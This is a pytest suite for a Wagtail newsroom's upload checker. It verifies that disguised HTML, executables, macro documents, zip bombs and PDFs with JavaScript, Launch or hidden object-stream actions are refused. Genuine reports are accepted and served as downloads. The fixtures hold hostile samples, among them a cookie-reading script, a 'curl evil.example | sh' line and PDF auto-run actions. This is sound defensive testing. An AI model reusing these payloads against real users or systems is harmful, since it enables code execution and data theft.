"""Documents are checked by what they contain (newsroom/documents.py) on every admin upload form, and served
for download only."""

import io
import zipfile
import zlib

import docx
import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from fpdf import FPDF
from fpdf.enums import XPos, YPos
from wagtail.documents import get_document_model
from wagtail.models import UploadedFile

from newsroom import documents
from newsroom.documents import RejectedDocument, inspect_document
from newsroom.models import Role
from tests.factories import get_page

FONT = "analytics/report/fonts/LiberationSerif-Regular.ttf"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


# --- Real documents, and hostile ones built from them -----------------------------------------------------


def real_pdf() -> bytes:
    """A PDF as fpdf2 writes it (the yearly report's library): compressed pages, an embedded font subset."""
    pdf = FPDF()
    pdf.add_font("Serif", "", FONT)
    pdf.add_page()
    pdf.set_font("Serif", size=14)
    for _ in range(40):
        text = "Báo cáo chuyển đổi số năm 2025 của tỉnh Hải Dương. " * 3
        pdf.multi_cell(0, 8, text, new_x=XPos.LMARGIN, new_y=YPos.NEXT)
    return bytes(pdf.output())


def pdf_with(objects: list[bytes]) -> bytes:
    """A small well-formed PDF whose catalogue is object 1 and whose other objects are `objects`."""
    body = b"%PDF-1.7\n"
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return body


PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
]


def pdf_opening(action: bytes) -> bytes:
    return pdf_with([b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>", *PAGES])


def pdf_with_action_in_object_stream() -> bytes:
    """The JavaScript action compressed inside an object stream (PDF 1.5), invisible in the raw bytes."""
    hidden = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"4 0 "
    packed = zlib.compress(header + hidden)
    stream = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
        len(header),
        len(packed),
    )
    return pdf_with(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGES, stream + packed + b"\nendstream"]
    )


def real_docx(**parts: bytes) -> bytes:
    """A Word document as python-docx writes it, with `parts` added to the package."""
    document = docx.Document()
    document.add_paragraph("Biên bản họp giao ban tòa soạn.")
    buffer = io.BytesIO()
    document.save(buffer)
    return _add_parts(buffer.getvalue(), parts)


def _add_parts(package: bytes, parts: dict) -> bytes:
    if not parts:
        return package
    buffer = io.BytesIO(package)
    with zipfile.ZipFile(buffer, "a") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def ooxml(main_part: str, content_type: bytes = b"application/xml") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", b'<Types><Default ContentType="' + content_type + b'"/></Types>'
        )
        archive.writestr(main_part, b"<workbook/>")
    return buffer.getvalue()


def odf(mimetype: bytes, **parts: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<office:document-content/>")
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return buffer.getvalue()


def verdict(data: bytes, name: str) -> str:
    """'ok', or the refusal's code."""
    try:
        inspect_document(io.BytesIO(data), name=name)
    except RejectedDocument as refusal:
        assert refusal.message
        return refusal.code
    return "ok"


ACCEPTED = {
    "report.pdf": real_pdf,
    "minutes.docx": real_docx,
    "budget.xlsx": lambda: ooxml("xl/workbook.xml"),
    "slides.pptx": lambda: ooxml("ppt/presentation.xml"),
    "notes.odt": lambda: odf(b"application/vnd.oasis.opendocument.text"),
    "table.ods": lambda: odf(b"application/vnd.oasis.opendocument.spreadsheet"),
    "figures.csv": lambda: "Huyện,Dân số\nThanh Hà,\u200b160000\n".encode(),
    "excel-utf16.csv": lambda: "\ufeffHuyện\tDân số\r\nThanh Hà\t160000\r\n".encode("utf-16"),
    "windows-1258.txt": lambda: "Tin v\u1eafn".encode("cp1258", errors="replace"),
    "plain.txt": lambda: b"Ghi chu phong vien: 3 nguon tin da xac minh.\n",
}


@pytest.mark.parametrize("name", ACCEPTED)
def test_real_documents_are_accepted(name):
    assert verdict(ACCEPTED[name](), name) == "ok"


REFUSED = {
    # Web pages and scripts under a document's name.
    ("html.pdf", "markup"): HTML,
    ("html.docx", "markup"): b"\xef\xbb\xbf  \n" + HTML,
    ("html.txt", "markup"): b"<html><script src=//evil.example/x.js></script>",
    ("html-utf16.csv", "markup"): "\ufeff<script>alert(1)</script>".encode("utf-16"),
    ("svg.pdf", "markup"): b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ("xml.odt", "markup"): b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml"/>',
    ("script.pdf", "wrong_type"): b"alert(document.cookie)//",
    # Programs under a document's name.
    ("setup.pdf", "program"): b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64,
    ("tool.docx", "program"): b"\x7fELF\x02\x01\x01" + b"\x00" * 64,
    ("app.xlsx", "program"): b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64,
    ("run.txt", "program"): b"#!/bin/sh\ncurl evil.example | sh\n",
    # Not what the extension says.
    ("photo.csv", "wrong_type"): b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    ("zip.docx", "wrong_type"): ooxml("other/thing.xml"),
    ("sheet.docx", "wrong_type"): ooxml("xl/workbook.xml"),
    ("text.xlsx", "wrong_type"): b"Huyen,Dan so\n",
    ("spreadsheet.odt", "wrong_type"): odf(b"application/vnd.oasis.opendocument.spreadsheet"),
    ("empty.pdf", "empty"): b"",
    ("program.exe", "program"): b"MZ" + b"\x00" * 64,
    ("page.rtf", "unsupported"): b"{\\rtf1 Tin}",
}


@pytest.mark.parametrize(("name", "code"), REFUSED)
def test_files_that_are_not_what_they_say_are_refused(name, code):
    assert verdict(REFUSED[name, code], name) == code


def test_a_truncated_document_is_refused():
    assert verdict(real_docx()[:3000], "minutes.docx") == "wrong_type"
    assert verdict(real_pdf()[:5000], "report.pdf") == "wrong_type"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        # Polyglots: a real PDF that is also a web page.
        (real_pdf() + b"<html><script>alert(1)</script></html>", "active_content"),
        (real_pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<script>alert(1)</script>\n", 1), "markup"),
        # Active content.
        (pdf_opening(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "active_content"),
        (pdf_opening(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"), "active_content"),
        (pdf_opening(b"<< /S /Launch /F (cmd.exe) >>"), "active_content"),
        (pdf_opening(b"<< /S /URI /URI (JavaScript :alert(1)) >>"), "active_content"),
        (
            pdf_with([b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>", *PAGES]),
            "active_content",
        ),
        (pdf_with_action_in_object_stream(), "active_content"),
    ],
    ids=[
        "html-after-eof",
        "script-in-comment",
        "javascript",
        "escaped-name",
        "launch",
        "js-url",
        "attachment",
        "object-stream",
    ],
)
def test_pdfs_that_could_run_code_are_refused(data, code):
    assert data.startswith(b"%PDF-")
    assert verdict(data, "report.pdf") == code


def test_a_pdf_with_a_plain_web_link_is_accepted():
    assert verdict(pdf_opening(b"<< /S /URI /URI (https://baohaiduong.vn/) >>"), "report.pdf") == "ok"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("macro.docx", real_docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        (
            "macro-enabled.docx",
            ooxml("word/document.xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        ("activex.xlsx", _add_parts(ooxml("xl/workbook.xml"), {"xl/activeX/activeX1.xml": b"<ax/>"})),
        ("basic.odt", odf(b"application/vnd.oasis.opendocument.text", Basic__Standard__Module1_xml=b"<m/>")),
    ],
)
def test_macros_are_refused(name, data):
    assert verdict(data, name) == "active_content"


def test_a_package_that_unpacks_to_too_much_is_refused(monkeypatch):
    monkeypatch.setattr(documents, "_MAX_UNPACKED", 10_000)
    bomb = _add_parts(real_docx(), {"word/media/zeros.bin": b"\x00" * 20_000})
    assert verdict(bomb, "minutes.docx") == "wrong_type"


# --- Through the admin: every upload form, and how documents are served ------------------------------


@pytest.fixture
def editor_client(client, staff):
    client.force_login(staff[Role.EDITOR])
    return client


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def test_the_document_form_refuses_a_web_page_with_a_clear_message(editor_client, agency):
    response = editor_client.post(
        reverse("wagtaildocs:add"),
        {"title": "Báo cáo", "collection": agency.collection_id, "file": upload("bao-cao.pdf", HTML)},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 200
    assert "is a web page (HTML, SVG or XML)" in response.content.decode()
    assert not get_document_model().objects.exists()


def test_the_multiple_uploader_refuses_a_program(editor_client, agency):
    response = editor_client.post(
        reverse("wagtaildocs:add_multiple"),
        {"collection": agency.collection_id, "files[]": upload("huong-dan.docx", b"MZ" + b"\x00" * 200)},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    answer = response.json()
    assert answer["success"] is False and "is a program" in answer["error_message"]
    assert not get_document_model().objects.exists()


def test_the_chooser_upload_refuses_a_pdf_with_javascript(editor_client, agency):
    response = editor_client.post(
        reverse("wagtaildocs_chooser:create"),
        {
            "document-chooser-upload-title": "Tờ rơi",
            "document-chooser-upload-collection": agency.collection_id,
            "document-chooser-upload-file": upload(
                "to-roi.pdf", pdf_opening(b"<< /S /JavaScript /JS (app.alert(1)) >>")
            ),
        },
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert "contains JavaScript" in response.content.decode()
    assert not get_document_model().objects.exists()


def test_replacing_a_documents_file_is_checked_too(editor_client, agency):
    document = get_document_model().objects.create(
        title="Báo cáo", collection=agency.collection, file=upload("bao-cao.pdf", real_pdf())
    )
    response = editor_client.post(
        reverse("wagtaildocs:edit", args=[document.pk]),
        {"title": "Báo cáo", "collection": agency.collection_id, "file": upload("bao-cao.pdf", HTML)},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 200 and "is a web page" in response.content.decode()
    document.refresh_from_db()
    with document.file.open() as file:
        assert file.read(5) == b"%PDF-"


def test_a_real_pdf_is_added_and_served_for_download_only(editor_client, client, agency):
    response = editor_client.post(
        reverse("wagtaildocs:add"),
        {
            "title": "Báo cáo năm",
            "collection": agency.collection_id,
            "file": upload("bao-cao.pdf", real_pdf()),
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    document = get_document_model().objects.get()
    client.logout()
    served = get_page(client, agency, document.url)
    assert served.status_code == 200
    assert served["Content-Disposition"].startswith("attachment")
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == "default-src 'none'"
    assert b"".join(served.streaming_content).startswith(b"%PDF-")


def test_a_held_multiple_upload_is_completed_afterwards(editor_client, staff, agency):
    """When a field other than the file fails in the multiple uploader (a required field of a custom document
    model), Wagtail keeps the file as an UploadedFile and asks for the fields again: filling them in files the
    document (with WAGTAILDOCS_EXTENSIONS set, Wagtail's own form answered 500 there)."""
    held = UploadedFile.objects.create(
        for_content_type=ContentType.objects.get_for_model(get_document_model()),
        file=upload("bao-cao.pdf", real_pdf()),
        uploaded_by_user=staff[Role.EDITOR],
    )
    url = reverse("wagtaildocs:create_multiple_from_uploaded_document", args=[held.pk])
    prefix = f"uploaded-document-{held.pk}"

    missing = editor_client.post(url, {f"{prefix}-title": "", f"{prefix}-collection": agency.collection_id})
    assert missing.status_code == 200 and missing.json()["success"] is False

    done = editor_client.post(
        url, {f"{prefix}-title": "Báo cáo quý", f"{prefix}-collection": agency.collection_id}
    )
    assert done.status_code == 200 and done.json()["success"] is True
    document = get_document_model().objects.get()
    assert document.title == "Báo cáo quý" and document.collection == agency.collection
    with document.file.open() as file:
        assert file.read(5) == b"%PDF-"
    assert not UploadedFile.objects.filter(pk=held.pk).exists()
